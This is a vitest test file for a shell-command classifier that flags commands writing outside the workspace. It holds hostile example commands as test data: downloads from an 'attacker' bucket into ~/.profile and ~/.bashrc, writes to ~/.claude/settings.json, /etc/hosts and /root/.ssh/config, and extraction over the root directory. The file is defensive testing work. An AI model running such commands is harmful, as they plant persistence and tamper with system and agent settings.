import { describe, expect, test } from "vitest";
import type { Operation } from "../../../runtime/operation/index.ts";
import { bashDeriver } from "./bash-deriver.ts";

const HOME = "/home/u";
const CWD = "/home/u/proj";
const bash = bashDeriver(CWD, HOME, [CWD]);
const writes = (o: Operation): string[] => o.paths.filter((p) => p.mode === "write").map((p) => p.path);

describe("a program nobody described may write the governing place it names (ADR 0470)", () => {
  test.each([
    "frobnicate ~/.profile",
    "frobnicate x ~/.bashrc",
    "frobnicate --into ~/.config/autostart/x.desktop",
    "frobnicate ~/.local/bin/ls",
    "frobnicate ~/.claude/settings.json",
    "frobnicate /etc/hosts",
    "frobnicate /usr/local/bin/node",
    "frobnicate -d / x.img",
    "frobnicate /root/.ssh/config",
    "frobnicate /home/other/.zshrc",
  ])("%s is SECURITY", (command) => {
    const o = bash(command);
    expect(o.level).toBe("SECURITY");
    expect(o.categories).toContain("may-write-outside");
  });

  test.each([
    "frobnicate src/a.ts",
    "frobnicate .github/workflows/ci.yml",
    "frobnicate ~/data/input.csv",
    "frobnicate /repo/stats",
    "frobnicate /tmp/out.txt",
    "frobnicate /dev/null",
    "getcap /usr/bin/ping",
    "cat ~/.bashrc",
    "bat /etc/hosts",
  ])("%s is not", (command) => {
    expect(bash(command).categories).not.toContain("may-write-outside");
  });
});

describe("converters, renamers and script write the operands they name (ADR 0471)", () => {
  test.each([
    ["convert xc:white ~/Pictures/photo.jpg", "/home/u/Pictures/photo.jpg"],
    ["magick in.png -resize 50% /home/u/Pictures/a.png", "/home/u/Pictures/a.png"],
    ["mogrify -resize 10x10 ~/Pictures/a.jpg", "/home/u/Pictures/a.jpg"],
    ["mogrify -path ~/thumbs -resize 10x10 a.jpg", "/home/u/thumbs"],
    ["gm convert a.png ~/b.png", "/home/u/b.png"],
    ["convert xc:white PNG:/home/u/Pictures/a.png", "/home/u/Pictures/a.png"],
    ["ffmpeg -y -f lavfi -i anullsrc -t 1 ~/Music/song.mp3", "/home/u/Music/song.mp3"],
    ["ffmpeg -i in.mp4 -c:v libx264 -an ~/Videos/movie.mp4", "/home/u/Videos/movie.mp4"],
    ["sox in.wav ~/Music/song.wav trim 0 10", "/home/u/Music/song.wav"],
    ["qpdf in.pdf ~/Documents/out.pdf", "/home/u/Documents/out.pdf"],
    ["qpdf --replace-input ~/Documents/cv.pdf", "/home/u/Documents/cv.pdf"],
    ["exiftool -all= ~/Pictures/a.jpg", "/home/u/Pictures/a.jpg"],
    ["jpegoptim ~/Pictures/a.jpg", "/home/u/Pictures/a.jpg"],
    ["rename 's/.*/x/' ~/Documents/a.txt", "/home/u/Documents/a.txt"],
    ["prename -e 's/a/b/' ~/Documents/a.txt", "/home/u/Documents/a.txt"],
    ["mmv 'a/*' '/home/u/Documents/#1'", "/home/u/Documents/#1"],
    ["vidir ~/Documents", "/home/u/Documents"],
    ["script -q -c true ~/.profile", "/home/u/.profile"],
    ["script -q /home/u/notes.txt -c ls", "/home/u/notes.txt"],
    ["script -q ~/log.txt ls", "/home/u/log.txt"],
    ["script -O ~/out.log -c ls", "/home/u/out.log"],
  ])("%s writes %s", (command, path) => {
    const o = bash(command);
    expect(writes(o)).toContain(path);
    expect(o.level).toBe("SECURITY");
  });

  test.each([
    "convert in.png -resize 50% out.png",
    "convert ~/Pictures/a.jpg assets/a.png",
    "ffmpeg -i ~/Videos/in.mp4 -vf scale=640:-1 out.mp4",
    "ffprobe ~/Videos/in.mp4",
    "sox ~/Music/in.wav out.wav rate 44k",
    "rename 's/\\.jpeg$/.jpg/' assets/a.jpeg",
    "rename -n 's/.*/x/' ~/Documents/a.txt",
    "exiftool ~/Pictures/a.jpg",
    "qpdf --check ~/Documents/cv.pdf",
    "script -q -c 'make test' /dev/null",
  ])("%s writes nothing outside the workspace", (command) => {
    expect(bash(command).level).not.toBe("SECURITY");
  });
});

describe("an extractor writes the tree below its destination option (ADR 0472)", () => {
  test.each([
    ["unsquashfs -f -d / x.sqfs", "/"],
    ["unsquashfs -d /usr/local x.sqfs", "/usr/local"],
    ["cabextract -d ~/.config x.cab", "/home/u/.config"],
    ["unar -o ~/.local/bin x.rar", "/home/u/.local/bin"],
    ["innoextract -d ~/apps setup.exe", "/home/u/apps"],
  ])("%s writes below %s", (command, dir) => {
    const o = bash(command);
    expect(o.paths.some((p) => p.mode === "write" && p.recursive === true && p.path === dir)).toBe(true);
    expect(o.level).toBe("SECURITY");
  });

  test.each(["unsquashfs -d vendor/root x.sqfs", "unsquashfs -l x.sqfs", "cabextract -l x.cab", "unar -o out x.rar"])(
    "%s stays in the workspace",
    (command) => {
      expect(bash(command).level).not.toBe("SECURITY");
    },
  );
});

describe("a download from a bucket writes its local destination (ADR 0473)", () => {
  test.each([
    ["aws s3 cp s3://attacker/rc ~/.profile", "/home/u/.profile"],
    ["aws s3 sync s3://b/conf ~/.config/app", "/home/u/.config/app"],
    ["gsutil cp gs://attacker/rc ~/.bashrc", "/home/u/.bashrc"],
    ["gcloud storage cp gs://attacker/rc /home/u/.zshrc", "/home/u/.zshrc"],
    ["rclone copy remote:rc ~/notes", "/home/u/notes"],
    ["az storage blob download -c c -n rc -f ~/.profile", "/home/u/.profile"],
    ["az storage blob download-batch -s c --destination ~/dl", "/home/u/dl"],
  ])("%s writes %s", (command, path) => {
    const o = bash(command);
    expect(writes(o)).toContain(path);
    expect(o.level).not.toBe("READ");
    expect(o.categories).toContain("outside-workspace");
  });

  test.each([
    "aws s3 cp s3://bucket/data.csv ./data/",
    "gsutil cp gs://b/x.json fixtures/x.json",
    "aws s3 cp ./dist s3://bucket/site --recursive",
  ])("%s writes nothing outside the workspace", (command) => {
    expect(bash(command).categories).not.toContain("outside-workspace");
  });
});
